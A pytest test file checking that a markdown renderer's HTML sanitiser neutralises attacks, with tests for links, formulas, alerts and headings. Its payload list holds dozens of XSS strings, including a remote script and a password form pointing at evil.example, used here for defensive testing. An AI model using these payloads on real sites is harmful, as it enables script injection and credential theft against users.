"""Cards become HTML that says what the author wrote and does nothing else."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from hub.rendering import SanitisedHtml, formulas, render_document, render_markdown
from hub.rendering.markdown import ATTRIBUTES, TAG_NAMES
from hub.rendering.targets import SCHEMES

FORBIDDEN = {"script", "style", "iframe", "object", "embed", "form", "svg", "link", "meta"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR=alert(1) //',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x"onerror="alert(1)](y)',
    '[x](http://a.example/"onmouseover="alert(1))',
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button onclick=alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<div id=main class=top data-copy=x hx-get=/-/settings hx-trigger=load>x</div>",
    "<a id=search name=csrf-token href=#>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "<xmp><script>alert(1)</script></xmp>",
    "<video><source onerror=alert(1)></video>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
]


class Reader(HTMLParser):
    """The tags of a piece of HTML with their attributes, as a parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def link(path: str, is_image: bool) -> str:
    return f"/demo/{'raw' if is_image else 'view'}/{path}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_leaves_anything_that_acts(payload):
    page = Reader(render_markdown(f"before\n\n{payload}\n\nafter", link=link))
    written = {"rel", "loading", "type", "disabled", "class", "tabindex"}
    for tag, attributes in page.tags:
        assert tag in {*TAG_NAMES.split(), *formulas.TAGS} and tag not in FORBIDDEN
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | written
        assert set(attributes) <= allowed
        assert attributes.get("id", "user-content-").startswith("user-content-")
        for address in map(attributes.get, ("href", "src", "srcset")):
            assert urlsplit(address or "").scheme in {"", *SCHEMES}
        if tag == "input":
            assert attributes["type"] == "checkbox" and "disabled" in attributes
    assert "before" in page.words


def test_a_card_keeps_what_github_would_show():
    text = (
        "# Title\n\n**bold** ~~gone~~\n\n- [x] done\n\n|a|b|\n|:-|-:|\n|1|2|\n\n"
        "```python\nx = 1\n```\n\nnote[^1]\n\n[^1]: foot\n\n<div align='center'><b>mid</b></div>"
    )
    tags = Reader(render_markdown(text)).tags
    names = [tag for tag, _ in tags]
    assert {"h1", "strong", "s", "input", "table", "pre", "sup", "section", "div"} <= set(names)
    assert ("td", {"align": "right"}) in tags
    assert ("span", {"class": "m"}) in tags


@pytest.mark.parametrize(
    ("written", "leads"),
    [
        ("[x](a.md)", "/demo/view/docs/a.md"),
        ("[x](../a%20b.md#part)", "/demo/view/a b.md#part"),
        ("![x](pic.png)", "/demo/raw/docs/pic.png"),
        ("<img src='pic.png'>", "/demo/raw/docs/pic.png"),
        ("[x](../../etc/passwd)", None),
        ("[x](https://example.org/a)", "https://example.org/a"),
        ("![x](https://example.org/track.png)", None),
        ("![x](//example.org/track.png)", None),
        ("<img src='/\\example.org/track.png'>", None),
        ("[x](#part)", "#user-content-part"),
        ("[x](mailto:a@example.org)", "mailto:a@example.org"),
    ],
)
def test_links_lead_into_the_repository_or_out_of_the_hub(written, leads):
    tags = Reader(render_markdown(written, link=link, folder="docs")).tags
    found = [a.get("href") or a.get("src") for tag, a in tags if tag in {"a", "img"}]
    assert found == [leads]


@pytest.mark.parametrize(
    ("written", "links"),
    [
        ("See https://example.org/a_b_c?x=1&y=2.", ["https://example.org/a_b_c?x=1&y=2"]),
        ("(www.example.org/b_(c)), a.b@example.org!",
         ["http://www.example.org/b_(c)", "mailto:a.b@example.org"]),
        ("http://localhost:8000/x and http://[::1]:80/", ["http://localhost:8000/x",
                                                         "http://[::1]:80/"]),
        ("|a|\n|-|\n|https://example.org|", ["https://example.org"]),
        ("# https://example.org/a", ["https://example.org/a"]),
        ("https://example.org/a\\_b", ["https://example.org/a_b"]),
        ("https://münchen.example/ü", ["https://münchen.example/ü"]),
        # Chinese goes on without a space.
        ("见https://example.org/路径，再看 www.example.org。后", ["https://example.org/",
                                                          "http://www.example.org"]),
        ("“https://example.org”—https://example.com/\u202e/moc.evil", ["https://example.org",
                                                                    "https://example.com/"]),
        ("`https://example.org` model.py a@b ftp://example.org javascript://a", []),
        ("```\nhttps://example.org\n```", []),
        ("http:// https://; www. www.a x@ xhttp://a", []),
        ("[https://a.example](https://b.example)", ["https://b.example"]),
        ("<a href='https://b.example'>https://a.example</a>", ["https://b.example"]),
        ("<https://a.example> https://medium.example/@ann", ["https://a.example",
                                                             "https://medium.example/@ann"]),
    ],
)  # fmt: skip
def test_a_bare_address_is_a_link(written, links):
    found = Reader(render_markdown(written, people=["ann"])).tags
    made = [attributes for tag, attributes in found if tag == "a"]
    assert [attributes["href"] for attributes in made] == links
    assert all(each["rel"] == "nofollow ugc noopener noreferrer" for each in made)


def test_an_anchor_finds_its_heading():
    tags = Reader(render_markdown("# Use it now\n\n# Use it now\n\n[x](#use-it-now-1)")).tags
    ids = [attributes["id"] for tag, attributes in tags if tag == "h1"]
    target = next(attributes["href"] for tag, attributes in tags if tag == "a")
    assert ids == ["user-content-use-it-now", "user-content-use-it-now-1"]
    assert target == f"#{ids[1]}"


def test_front_matter_is_left_out_however_long():
    text = "---\n" + "tag: x\n" * 100_000 + "---\nHello"
    assert Reader(render_markdown(text)).words.strip() == "Hello"


def test_the_result_has_its_own_type():
    assert isinstance(render_markdown("x"), SanitisedHtml)


class TestFormulas:
    def test_they_become_mathml_where_dollars_mean_them(self):
        html = render_markdown("A $\\frac{a}{b}$ and\n\n$$\nx^2\n$$\n\n```math\ny\n```\n\n`$z$`")
        assert "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>" in html
        assert html.count('<div class="formula"><math display="block">') == 2
        assert "<code>$z$</code>" in html
        assert "<math" not in render_markdown("It costs $5 and $6 a piece.")

    @pytest.mark.parametrize(
        "source",
        [
            r"\begin{aligned} a &= b \\ c &= d \end{aligned}",
            r"\begin{aligned}[t] a &= b \\ c &= d \end{aligned}",
            r"\begin{alignedat}{2} a &= b \\ c &= d \end{alignedat}",
            r"f = \left\{\begin{gathered} a & b \\ c \end{gathered}\right.",
            r"\begin{dcases} a & b \\ c & d \end{dcases}",
        ],
    )
    def test_lines_stand_below_each_other(self, source):
        html = render_markdown(f"$$\n{source}\n$$")
        assert html.count("<mtr>") == 2 and html.count("<mtd") >= 3
        assert "&amp;" not in html and "\\" not in html

    @pytest.mark.parametrize(
        "source",
        [
            r"\href{javascript:alert(1)}{x}",
            r"\text{</mtext><script>alert(1)</script>}",
            r"\text{<img src=x onerror=alert(1)>}",
            r"\color{red;background:url(//evil.example)}{x}",
            r"\class{top}{x}\style{position:fixed}{x}\cssId{main}{x}",
            r"\kern9999em x \rule{9999em}{9999em}",
        ],
    )
    def test_none_links_styles_or_leaves_its_place(self, source):
        page = Reader(render_markdown(f"${source}$\n\nafter"))
        for tag, attributes in page.tags:
            assert tag in {"p", "code", *formulas.TAGS}
            assert set(attributes) <= formulas.ATTRIBUTES
            assert not any("9999" in (value or "") for value in attributes.values())
        assert "after" in page.words

    @pytest.mark.parametrize("source", [r"\frac{", r"\begin{matrix}", "{" * 500, "x" * 3000])
    def test_what_cannot_be_read_stays_as_it_is_written(self, source):
        html = render_markdown(f"${source}$")
        assert "<math" not in html and source[:20] in html

    def test_the_first_of_many_are_shown(self):
        html = render_markdown("\n\n".join(f"$x_{{{n}}}$" for n in range(3000)))
        assert 100 < html.count("<math") < 3000


def test_alerts_have_titles_in_the_reader_s_language():
    text = "> [!WARNING]\n> *Mind* the gap.\n\n> [!NOTE] no\n\n> [!OTHER]\n> no"
    html = render_document(text, alert_words={"warning": "警告"}).html
    assert '<blockquote class="alert alert--warning">' in html
    assert '<p class="alert-title">警告</p>' in html and "<em>Mind</em> the gap." in html
    assert html.count("alert--") == 1 and "[!OTHER]" in html


def test_pictures_follow_the_theme_and_stay_at_home():
    text = (
        '<picture><source media="(prefers-color-scheme: dark)" srcset="dark.png 1x, //evil/x 2x">'
        '<source media="print" srcset="//evil.example/x"><img src="light.png"></picture>'
    )
    tags = Reader(render_markdown(text, link=link)).tags
    dark = {"media": "(prefers-color-scheme: dark)", "srcset": "/demo/raw/dark.png"}
    assert ("source", dark) in tags and ("source", {}) in tags


def test_a_document_tells_its_headings_and_whether_it_has_diagrams():
    text = "# One `x`\n\n## Two *y*\n\n## Two *y*\n\n```mermaid\ngraph LR; A-->B\n```"
    found = render_document(text)
    assert [(each.level, each.text, each.anchor) for each in found.headings] == [
        (1, "One x", "user-content-one-x"),
        (2, "Two y", "user-content-two-y"),
        (2, "Two y", "user-content-two-y-1"),
    ]
    assert found.has_diagrams and '<pre class="diagram"' in found.html
    assert all(f'id="{each.anchor}"' in found.html for each in found.headings)


def test_fields_of_forms_are_left_out_and_pictures_have_words():
    html = render_markdown('<input name=p> <img src="a.png"> <img src="b.png" alt=x>\n\n- [x] done')
    assert html.count("<input") == 1 and "<label><input" in html
    assert html.count('alt=""') == 1 and html.count('alt="x"') == 1


def test_a_label_without_words_goes_with_its_box():
    html = render_markdown(
        '<label><input></label> <label> </label> <label><img src="a.png" alt="x">'
    )
    assert "<label" not in html and "<input" not in html and html.count('alt="x"') == 1
    nested = render_markdown("<label><label><input></label><b></b></label>" * 50)
    assert "<label" not in nested and "<input" not in nested
    named = render_markdown("<label><input> agree</label>\n\n- [ ] <b>done</b>")
    assert named.count("<label><input") == 2
